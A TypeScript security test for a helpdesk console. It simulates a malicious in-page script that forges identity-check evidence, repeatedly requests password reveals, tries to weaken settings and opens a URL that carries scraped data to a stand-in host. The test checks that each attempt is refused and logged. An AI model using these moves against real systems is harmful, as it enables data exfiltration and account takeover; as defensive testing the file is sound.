/*
 * The third attacker: a script in the page. It has window.desk and the agent's right to call it, and presses faster than they do.
 * What it claims to have seen of a caller nobody can look up, so it may make passes; the agent sees them, and no code leaves main.
 */
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { OperationInput } from '../../../contract/operations.ts';
import type { OperationName } from '../../../contract/channels.ts';
import type { EvidenceObservation } from '../../../contract/evidence.ts';
import { microsoftPages } from '../../../contract/microsoft-pages.ts';
import { answerQuestions, questionsOf } from '../support/answer-questions.ts';
import { askDesk, fromDesk } from '../support/ask-desk.ts';
import { checkedPlan, endOfRun } from '../support/ask-plan.ts';
import type { Console } from '../support/console.ts';
import { expect, test } from '../support/console.ts';
import { refusalsIn, rowsOf } from '../support/journal-file.ts';
import { launchConsole } from '../support/launch-console.ts';
import { priya, ticketReference } from '../support/people.ts';

const kenji = 'kenji.watanabe@northmoor.example';
const upns = [priya.upn, 'nikhil.desai@northmoor.example', 'nadia.rahman@northmoor.example'];

/** All that window.desk gives to whoever asks, as text. */
const readAll = async ({ page }: Console, userIds: readonly string[], planIds: readonly string[]): Promise<string> => {
  const once: { readonly [N in OperationName]?: OperationInput<N> } = {
    'app.state': {},
    'session.current': {},
    'users.search': { query: 'a' },
    'tickets.list': {},
    'journal.list': { filter: {}, limit: 500 },
    'journal.count': { filter: {} },
    'jobs.list': {},
    'settings.read': {},
  };
  const each = (['users.open', 'users.photo'] as const).flatMap((name) => userIds.map((userId) => [name, { userId }] as const));
  const asked = [...Object.entries(once), ...each, ...planIds.map((planId) => ['plans.current', { planId }] as const)];
  const answers = await page.evaluate(async (calls) => {
    const surface = (window as unknown as { desk: Record<string, Record<string, (input: unknown) => Promise<{ ok: boolean }>>> }).desk;
    return Promise.all(
      calls.map(async ([name, input]) => {
        const [area = '', verb = ''] = name.split('.');
        return surface[area]?.[verb]?.(input);
      }),
    );
  }, asked);
  expect(answers.filter((answer) => answer?.ok !== true)).toEqual([]);
  return JSON.stringify(answers);
};

test('a script in the page reads what the agent can read, makes passes in a loop, loosens the rules and opens pages: no code leaves main, nothing is opened, and each refusal is in the journal', async ({
  place,
  tenant,
  complaints,
}) => {
  // Stands where the system's own would: each page that is opened is a line of the file.
  const [programs, openedFile] = [join(place.folder, 'programs'), join(place.folder, 'opened')];
  mkdirSync(programs);
  writeFileSync(join(programs, 'xdg-open'), `#!/bin/sh\necho "$1" >> "${openedFile}"\n`);
  chmodSync(join(programs, 'xdg-open'), 0o755);
  const desk = await launchConsole(place, tenant, complaints, [], { PATH: `${programs}:${process.env['PATH'] ?? ''}` });
  const { page, app, find, ticket, start } = desk;
  try {
    await start.ready();
    await fromDesk(page, 'session.current', {});
    await answerQuestions(app, 'no');
    const userIds = await Promise.all(upns.map(async (upn) => (await tenant.truth(upn)).id));
    const { id: kenjiId } = await tenant.truth(kenji);
    const planIds: string[] = [];
    let read = await readAll(desk, userIds, planIds);

    await test.step('invented checks', async () => {
      const inventions: readonly EvidenceObservation[] = [
        { kind: 'photoIdInPerson', document: 'passport', matchesPhotoOnRecord: 'yes' },
        { kind: 'callBack', number: 'office', numberEnding: '1234', answered: true },
        { kind: 'managersWord', managerId: crypto.randomUUID(), reachedBy: 'teamsCallByAgent', called: null },
      ];
      for (const observation of inventions) {
        expect(await askDesk(page, 'evidence.record', { userId: kenjiId, ticket: ticketReference, observation })).toMatchObject({
          ok: false,
          fault: { code: 'evidence.notOnRecord' },
        });
      }
      expect(rowsOf(place.journalFile).filter(({ action }) => action === 'evidence.recorded')).toEqual([]);
    });

    await test.step('passes in a loop, each asked for in every way', async () => {
      for (const userId of userIds) {
        const { id: planId } = await checkedPlan(page, userId, { reference: ticketReference });
        planIds.push(planId);
        await fromDesk(page, 'plans.execute', { planId });
        expect((await endOfRun(page, planId)).state).toBe('done');
        for (const way of ['secrets.reveal', 'secrets.copy', 'secrets.print'] as const) {
          const answer = await askDesk(page, way, { planId });
          expect(answer).toMatchObject({ ok: false, fault: { code: 'desk.declined' } });
          read += JSON.stringify(answer);
        }
      }
    });

    await test.step('looser settings, and what it read in the address of a page', async () => {
      const { profile } = await fromDesk(page, 'settings.read', {});
      read += await readAll(desk, userIds, planIds);
      const link = { title: 'Help', address: 'https://elsewhere.example/' };
      const looser = [
        { ...profile, links: [link] },
        { ...profile, verification: { ...profile.verification, expiresAfterMinutes: 240 } },
        { ...profile, lock: { ...profile.lock, afterIdleMinutes: 60 } },
      ];
      for (const next of looser) {
        expect(await askDesk(page, 'settings.save', { profile: next })).toMatchObject({ ok: false, fault: { code: 'desk.declined' } });
      }
      const stolen = encodeURIComponent(read.slice(0, 400));
      for (const address of [link.address, `${link.address}?q=${stolen}`, `https://learn.microsoft.com/?q=${stolen}`]) {
        expect(await askDesk(page, 'app.openPage', { address })).toMatchObject({ ok: false, fault: { code: 'input.invalid' } });
      }
      expect((await fromDesk(page, 'settings.read', {})).profile).toEqual(profile);
    });

    // What was opened would be seen here: a button's own page is.
    expect(existsSync(openedFile)).toBe(false);
    await fromDesk(page, 'app.openPage', { address: microsoftPages.howToConsent });
    await expect.poll(() => existsSync(openedFile) && readFileSync(openedFile, 'utf8')).toBe(`${microsoftPages.howToConsent}\n`);

    const asked = await questionsOf(app);
    expect(asked).toHaveLength(12);
    for (const { detail } of asked)
      expect(detail).toMatch(/If you did not choose this yourself just now, choose Cancel and tell your administrator\./u);
    const rows = rowsOf(place.journalFile);
    const count = (action: string): number => rows.filter((row) => row.action === action).length;
    expect(
      ['secret.declined', 'settings.declined', 'secret.revealed', 'secret.copied', 'secret.printed', 'settings.changed'].map(count),
    ).toEqual([9, 3, 0, 0, 0, 0]);
    const by = 'Morag Sinclair';
    expect(refusalsIn(place.journalFile)).toEqual([
      ...Array.from({ length: 3 }, () => ({ agent: by, person: 'Kenji Watanabe', code: 'evidence.notOnRecord' })),
      // The same within a minute is one.
      { agent: by, person: null, code: 'input.invalid' },
    ]);
    expect(
      rows
        .filter(({ action }) => action === 'desk.refused')
        .map(({ recordJson }) => recordJson)
        .join(),
    ).not.toContain('elsewhere.example');

    await test.step('the agent, who is asked outside the page, has the code; the script never had it', async () => {
      await answerQuestions(app, 'yes');
      await find.open(priya.upn, /Priya Raman/);
      const code = await ticket.readCode();
      expect(code).toMatch(/^\S{8,}$/u);
      expect(read.length).toBeGreaterThan(10_000);
      expect(read).not.toContain(code);
    });
  } finally {
    await desk.close();
  }
});
